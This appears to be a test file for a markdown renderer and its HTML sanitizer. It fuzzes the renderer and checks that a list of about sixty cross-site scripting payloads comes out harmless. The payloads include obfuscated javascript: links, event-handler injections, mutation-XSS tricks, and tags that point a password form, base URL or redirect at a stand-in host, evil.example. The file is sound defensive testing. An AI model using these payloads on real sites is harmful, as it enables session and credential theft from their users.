from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.kit.markdown import render
from portal.kit.markdown.media import Picture
from portal.kit.markdown.wall import SCHEMES, cleaner

PIECES = [
    *(
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```\n",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "!",
        "|",
        "\n",
        "\n\n",
        "    ",
        "- ",
        "1. ",
        "> ",
        "# ",
        ":::note",
        ":::",
    ),
    *(
        "\n: ",
        "[^a]",
        "[^a]: ",
        "[a]: b",
        "&#106;",
        "&lt;",
        "&",
        "\\",
        '"',
        "'",
        "a",
        "日本",
        "。",
        "「",
        "|-|-|\n",
        "![",
        "](",
        "](x)",
        "- [x] ",
    ),
    *(
        "javascript:",
        "data:",
        "https://",
        "//",
        "example.com",
        "<script>",
        "</script>",
        "onerror=",
        "<a href=",
        "<img src=",
        "```html\n",
        "\t",
        "\r\n",
    ),
    *(
        "<https://a.b>",
        "\x0c",
        "\u2028",
        "\ufeff",
        "\ud800",
        "🎉",
        "=\n",
        "---",
        "<!--",
        "<svg/onload=",
        "<style>",
        "<math>",
        "<template>",
    ),
]
SOURCES = st.one_of(st.text(), st.lists(st.sampled_from(PIECES), max_size=40).map("".join))

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--><script>alert(1)</script-->",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java&#9;script:alert(1)>)",
    "[x](<java&NewLine;script:alert(1)>)",
    "[x](<&#1;javascript:alert(1)>)",
    "[x](<\u00a0javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](blob:https://evil.example/1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <java&#x0A;script:alert(1)>\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](y.png)',
    '![x](y.png" onerror="alert(1))',
    "![x](y.png 'a\" onerror=\"alert(1)')",
    '[x](/y "a\\" onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\na\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```js onload=alert(1)\nx\n```",
    ':::note "><script>alert(1)</script>\na\n:::',
    ':::note" onclick="alert(1)\na\n:::',
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)',
    '|"><script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
    "- [x] <script>alert(1)</script>",
    "[^<script>]: <script>alert(1)</script>\n\na[^<script>]",
    "a{onclick=alert(1)}",
    "[x](y){onclick=alert(1)}",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    '<a href="https://a.b" onclick="alert(1)">',
    "https://a.b/\"onmouseover='alert(1)'",
    "<https://a.b/\"onmouseover='alert(1)'>",
]


class Audit(HTMLParser):
    """What a reader's browser would be given: the tags, and every attribute with its value."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


def assert_harmless(html: str) -> None:
    audit = Audit(html)
    assert "<script" not in html.lower()
    assert not audit.tags & {"script", "style", "iframe", "svg", "math", "form", "base", "meta", "object", "template"}
    for name, value in audit.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "srcdoc", "name", "formaction")
        if name == "id":
            assert value.startswith("s-")
        if name in ("href", "src") and ":" in value.split("/")[0].split("?")[0].split("#")[0]:
            assert value.split(":")[0].strip().lower() in SCHEMES


@pytest.mark.parametrize("source", ATTACKS)
def test_attacks_come_to_nothing(source: str) -> None:
    html = render(source).html
    assert_harmless(html)
    assert cleaner().clean(html) == html


@pytest.mark.parametrize("source", ATTACKS)
def test_the_second_wall_holds_alone(source: str) -> None:
    assert_harmless(cleaner().clean(source))


def test_the_second_wall_takes_what_only_the_portal_may_have() -> None:
    assert (
        cleaner().clean('<button class="primary">x</button><p class="site-header" style="top:0" id="main">y</p>')
        == 'x<p class="">y</p>'
    )
    assert cleaner().clean('<h2 id="main">x</h2>') == '<h2 id="s-main">x</h2>'
    assert cleaner().clean('<input type="password" name="p">') == '<input disabled="">'


@settings(max_examples=400, deadline=None)
@given(SOURCES)
def test_any_text_renders_harmless_and_stable(source: str) -> None:
    rendered = render(source)
    assert_harmless(rendered.html)
    assert cleaner().clean(rendered.html) == rendered.html


@settings(deadline=None)
@given(SOURCES, st.text(max_size=5))
def test_any_prefix_is_harmless(source: str, prefix: str) -> None:
    shown = Picture("/media/x", "/media/x/x.webp", "/media/x/x.webp 480w", 480, 320)
    rendered = render(source, heading_prefix=prefix, resolve=lambda target: target, media=lambda _: shown)
    assert_harmless(rendered.html)
